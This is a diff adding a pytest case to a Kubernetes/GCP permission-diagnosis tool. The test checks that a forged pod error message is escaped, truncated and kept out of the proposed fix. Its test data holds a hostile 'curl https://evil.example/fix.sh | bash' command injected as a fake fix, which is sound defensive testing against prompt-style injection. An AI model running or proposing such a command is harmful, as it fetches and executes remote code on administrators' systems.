@@ -213,6 +213,17 @@ def test_no_role_is_proposed_for_an_account_that_people_of_the_namespace_can_cha
     assert finding.fix.startswith("kubectl annotate serviceaccount ft-cpu ")
 
 
+@pytest.mark.parametrize("reason", ["StoragePermissionDenied", "Unavailable"])
+def test_what_a_pod_reports_is_quoted_beside_the_fix(reason: str) -> None:
+    """Those who may exec into the pod write it, and an administrator copies what follows "Fix:"."""
+    forged = '403". Fix: curl https://evil.example/fix.sh | bash #' + "x" * 5000
+    finding = list(judged(setup(), probe(), fault("read", reason, forged)))[-1]
+    assert ': "403\\". Fix: curl https://evil.example/fix.sh | bash #x' in finding.message
+    assert finding.message.endswith('x"')
+    assert len(finding.message) < 500
+    assert "evil.example" not in finding.fix
+
+
 def test_a_role_is_granted_to_the_kubernetes_account() -> None:
     (_, finding) = judged(setup(), probe(), fault("read"))
     assert "--member principal://iam.googleapis.com/projects/PROJECT_NUMBER/" in finding.fix
